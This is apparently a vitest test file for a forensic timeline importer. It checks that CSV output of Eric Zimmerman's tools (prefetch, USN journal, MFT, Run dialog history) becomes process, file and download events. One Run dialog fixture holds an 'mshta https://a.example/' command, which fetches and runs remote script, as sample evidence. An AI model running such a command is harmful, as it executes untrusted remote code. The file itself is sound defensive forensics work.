import { describe, expect, it } from 'vitest'
import ezTools from '../../../core/importers/ez-tools.importer.ts'
import type { ParsedRecord } from '../../../core/importers/importer.ts'
import { detectFormat } from '../../../core/importers/registry.ts'
import type { EventItem } from '../../../core/model/event.ts'
import { detectInputOf, fixture, parseAll, partOf } from '../../support/parse.ts'

const table = (columns: readonly string[], ...rows: Readonly<Record<string, string>>[]): Buffer =>
  Buffer.from(
    [columns, ...rows.map((row) => columns.map((column) => row[column] ?? ''))]
      .map((cells) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','))
      .join('\r\n'),
  )
async function read(bytes: Buffer): Promise<EventItem[]> {
  // The zone of the import is not asked: the tools write UTC.
  const units = await parseAll(ezTools, partOf('x.csv', bytes), 'Asia/Taipei')
  return units
    .filter((unit): unit is ParsedRecord => unit.kind === 'record')
    .flatMap(({ items }) => items as EventItem[])
}

const PREFETCH = ['SourceFilename', 'ExecutableName', 'RunCount', 'LastRun', 'PreviousRun0', 'FilesLoaded']
const JOURNAL = [
  'Name',
  'ParentPath',
  'UpdateSequenceNumber',
  'UpdateTimestamp',
  'UpdateReasons',
  'SourceFile',
]
const MFT = ['EntryNumber', 'ParentPath', 'FileName', 'IsAds', 'Created0x10', 'ZoneIdContents', 'SourceFile']

describe('tables of Eric Zimmerman’s tools', () => {
  it.each([
    'good-prefetch.csv',
    'good-shimcache.csv',
    'good-amcache-files.csv',
    'good-mft.csv',
    'good-usn.csv',
    'good-links.csv',
    'good-run-dialog.csv',
  ])('%s is told by its columns, before the artifacts of Velociraptor that share some', (name) => {
    const [best, next] = detectFormat(detectInputOf('table.csv', fixture(`ez-tools/${name}`)))
    expect(best?.importer.id).toBe('ez-tools')
    expect((best?.confidence ?? 0) - (next?.confidence ?? 0)).toBeGreaterThan(0.2)
  })

  it('are in UTC, which is no assumption', async () => {
    const [item] = await read(
      table(PREFETCH, { ExecutableName: 'X.EXE', RunCount: '1', LastRun: '2031-05-06 07:08:09' }),
    )
    expect(item).toMatchObject({ kind: 'process-start', at: Date.UTC(2031, 4, 6, 7, 8, 9) * 1000 })
    expect(item).not.toHaveProperty('zoneAssumed')
  })

  it('of prefetch: a start for every run, of the program in the folder it was loaded from', async () => {
    const system = '\\VOLUME{01d9}\\WINDOWS\\SYSTEM32\\NTDLL.DLL'
    const runs = { ExecutableName: 'X.EXE', RunCount: '2', LastRun: '2031-05-06 07:08:09' }
    const items = await read(
      table(
        PREFETCH,
        {
          ...runs,
          PreviousRun0: '2031-05-05 07:08:09',
          FilesLoaded: `${system}, \\VOLUME{01d9}\\STASH\\X.EXE`,
        },
        { ...runs, FilesLoaded: `${system}, \\VOLUME{02aa}\\X.EXE` },
      ),
    )
    expect(items.map(({ kind, fields }) => [kind, fields.processPath])).toEqual([
      ['process-start', 'C:\\STASH\\X.EXE'],
      ['process-start', 'C:\\STASH\\X.EXE'],
      // Not the volume with Windows: nobody knows its letter.
      ['process-start', '\\VOLUME{02aa}\\X.EXE'],
    ])
  })

  it('of the journal: one write is one creation, though it makes three rows', async () => {
    const row = (UpdateReasons: string) => ({
      Name: 'a.js',
      ParentPath: '.\\Users\\amber',
      UpdateTimestamp: '2031-05-06 07:08:09',
      UpdateReasons,
    })
    const items = await read(
      table(
        JOURNAL,
        ...['FileCreate', 'DataExtend|FileCreate', 'DataExtend|FileCreate|Close'].map(row),
        ...['RenameOldName', 'RenameNewName', 'RenameNewName|Close', 'FileDelete|Close'].map(row),
      ),
    )
    expect(items.map(({ kind }) => kind)).toEqual([
      'file-create',
      'file-modify',
      'generic',
      'generic',
      'file-rename',
      'generic',
      'file-delete',
    ])
    expect(items[0]?.fields.target).toBe('C:\\Users\\amber\\a.js')
  })

  it('of the MFT: the mark of a download says where it came from', async () => {
    const mark =
      '[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=https://a.example/\r\nHostUrl=https://a.example/x.js'
    const rows = [
      { FileName: 'x.js:Zone.Identifier', IsAds: 'True', ZoneIdContents: mark },
      // The row of the file itself repeats it.
      { FileName: 'x.js', IsAds: 'False', ZoneIdContents: mark },
    ]
    const items = await read(
      table(
        MFT,
        ...rows.map((row) => ({
          ...row,
          EntryNumber: '7',
          ParentPath: '.\\stash',
          Created0x10: '2031-05-06 07:08:09',
          SourceFile: 'E:\\out\\D\\$MFT',
        })),
      ),
    )
    expect(items).toMatchObject([
      {
        kind: 'file-stream',
        fields: {
          target: 'D:\\stash\\x.js:Zone.Identifier',
          url: 'https://a.example/x.js',
          referrer: 'https://a.example/',
        },
      },
      { kind: 'inventory', fields: { target: 'D:\\stash\\x.js' } },
    ])
  })

  it('of the Run dialog: what was pasted is a start by the shell, where its time is known', async () => {
    const columns = ['BatchKeyPath', 'BatchValueName', 'MruPosition', 'Executable', 'OpenedOn']
    const items = await read(
      table(
        columns,
        { Executable: 'mshta https://a.example/\\1', OpenedOn: '2031-05-06 07:08:09' },
        { Executable: 'winver' },
      ),
    )
    expect(items).toMatchObject([
      {
        kind: 'process-start',
        fields: {
          processPath: 'mshta.exe',
          commandLine: 'mshta https://a.example/',
          parentPath: 'C:\\Windows\\explorer.exe',
        },
      },
      { kind: 'inventory', at: null, fields: { commandLine: 'winver' } },
    ])
    expect(items[1]?.fields).not.toHaveProperty('parentPath')
  })
})
